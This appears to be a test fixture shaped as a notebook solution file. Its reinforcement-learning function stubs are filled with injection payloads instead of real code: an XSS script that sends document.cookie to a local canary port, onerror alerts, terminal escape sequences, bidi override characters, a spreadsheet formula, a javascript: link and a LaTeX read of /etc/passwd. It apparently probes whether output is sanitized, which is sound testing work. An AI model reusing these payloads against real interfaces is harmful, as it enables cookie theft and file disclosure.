# %% start from untouched

# %% own after setup
from IPython.display import HTML, Javascript, Markdown, display

SCRIPT = "</pre></div><script>fetch('http://127.0.0.1:CANARY_PORT/'+document.cookie)</script><img src=x onerror=alert(1)>"
print(SCRIPT, "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://127.0.0.1:CANARY_PORT/\x07click", "\u202e\u2066", "=HYPERLINK(\"http://x\")", "[x](javascript:alert(1))", "$$\\input{/etc/passwd}$$")
display(HTML(SCRIPT), Javascript("alert(1)"), Markdown(SCRIPT))
raise type("Error<script>alert(1)</script>", (Exception,), {})(SCRIPT + "\x1b[31m" + "x" * 5000)
# %% bellman_q
def bellman_q(P, R, V, gamma):
    raise type(SCRIPT, (Exception,), {})(SCRIPT)
# %% value_iteration
def value_iteration(P, R, gamma, tol):
    return type('<img src=x onerror=alert(1)>', (), {})()
# %% policy_evaluation
def policy_evaluation(P, R, policy, gamma):
    raise ValueError('\x1b]0;owned\x07' + SCRIPT + '=1+1')
